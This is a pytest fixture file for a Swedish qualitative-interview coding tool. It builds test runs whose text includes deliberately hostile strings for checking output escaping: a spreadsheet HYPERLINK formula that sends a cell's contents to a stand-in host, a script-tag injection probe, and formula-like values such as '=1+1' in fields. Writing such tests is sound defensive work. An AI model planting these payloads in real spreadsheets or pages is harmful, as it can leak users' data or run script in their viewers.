"""A small run with everything that is hard to write."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from qualcode.errors import Place, SourceError
from qualcode.result import Run
from qualcode.study import Study
from qualcode.transcript import Piece

HOSTILE = (
    '=HYPERLINK("http://ond.example/?"&A1;"Klicka här")',
    "- Ja det tycker jag.",
    "+46 är landets nummer.",
    "@alla borde få veta.",
    "<script>alert('hej hej')</script> sa han.",
    "<b>Fet text</b> & [länk](http://ond.example) här.",
    "# Inte någon rubrik.",
    "Se www.ond.example eller http://ond.example nu.",
    "Snedstreck \\ och `kod` och *stjärnor* och $a_b$.",
    "Smileyn 😀 och tecknet _x0041_ står kvar.",
)


@pytest.fixture
def make_run(coded_doc, small_codebook, tmp_path: Path) -> Callable[..., Run]:
    """Makes a run of two interviews and a workshop: ``make_run(settings="…")`` with lines of study.yaml."""

    def make(*, settings: str = "", extra: tuple[Piece, ...] = (), reverse: bool = False) -> Run:
        root = tmp_path / "studien"
        root.mkdir(exist_ok=True)
        (root / "study.yaml").write_text(f"title: Trygg & säker\n{settings}", encoding="utf-8")
        lines = [
            Piece(line, kind="note", section=("<i>Lappar</i>",), line=n) for n, line in enumerate(HOSTILE, 3)
        ]
        docs = [
            coded_doc(
                "intervju-2.txt",
                [
                    Piece("Hur är det på kvällen?", speaker="I", role="interviewer", begins=3),
                    Piece(
                        "Jag vet inte. Det är mörkt vid torget. Jag går omvägar. På dagen är det fint.",
                        speaker="Anna",
                        role="respondent",
                        begins=190.4,
                        page=4,
                    ),
                    *extra,
                ],
                {
                    3: {"belysning": 0.8, "trygghet": {"score": 0.8, "why": {"implied_by": "belysning"}}},
                    4: {"trygghet": 0.71234567},
                },
                {"grupp": "unga", "plats": "=Alby"},
            ),
            coded_doc(
                "intervju-10.txt",
                [Piece("Inga jobb finns.", speaker="=1+1", role="respondent")],
                {1: {"jobb": 0.6}},
            ),
            coded_doc(
                "workshop.md",
                lines,
                {n: {"jobb": 0.9} for n in range(1, len(HOSTILE) + 1)},
                {"grupp": "äldre"},
            ),
        ]
        return Run.of_docs(
            Study.open(root),
            small_codebook,
            docs[::-1] if reverse else docs,
            id="2024-05-06T0708",
            problems=[SourceError("empty", where=Place(root / "corpus" / "möten" / "tom.txt"))],
            warnings=["workshop.md: <kontrollera> å, ä och ö."],
            manifest={"host": "dator", "timings": {"read": 0.5}},
        )

    return make


@pytest.fixture
def run(make_run) -> Run:
    """The run as it is with default settings."""
    return make_run()


@pytest.fixture
def texts(run) -> dict[str, str]:
    """Text by source name."""
    return {source.name: source.text for source in run.sources}
